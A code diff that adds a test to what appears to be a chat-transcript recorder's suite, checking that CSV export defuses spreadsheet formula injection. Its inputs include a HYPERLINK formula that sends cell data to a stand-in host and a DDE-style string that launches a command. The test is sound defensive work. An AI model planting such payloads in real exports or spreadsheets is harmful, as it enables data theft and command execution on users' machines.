@@ -252,3 +252,28 @@ async def test_a_message_queued_for_a_purged_transcript_does_not_poison_the_batc
     recorder.add_message(replace(msg(2), channel_id=501))
     assert await recorder.flush() == 2
     assert await scalar(db, "SELECT channel_id FROM recorded_messages") == 501
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    db, settings, tmp_path
+):
+    await start(db)
+    recorder = Recorder(db)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    recorder.add_message(
+        replace(
+            msg(1, formula, author=3),
+            author_name="+cmd|' /C calc'!A0",
+            attachments=(store.Attachment("@SUM(1+1).png", 10, None),),
+            embed_titles=("-2+3",),
+        )
+    )
+    recorder.add_message(msg(2, "a plain sentence"))
+    await recorder.flush()
+    (path,) = export_transcript(settings.database, CHANNEL, "csv", tmp_path)
+    rows = [r for r in csv.DictReader(io.StringIO(path.read_text())) if r["kind"] == "message"]
+    risky = rows[0]
+    for column in ("content", "author_name", "attachments", "embeds"):
+        assert risky[column][0] not in "=+-@\t\r", column
+    assert risky["content"] == "'" + formula  # the text is kept, only defused
+    assert rows[1]["content"] == "a plain sentence"
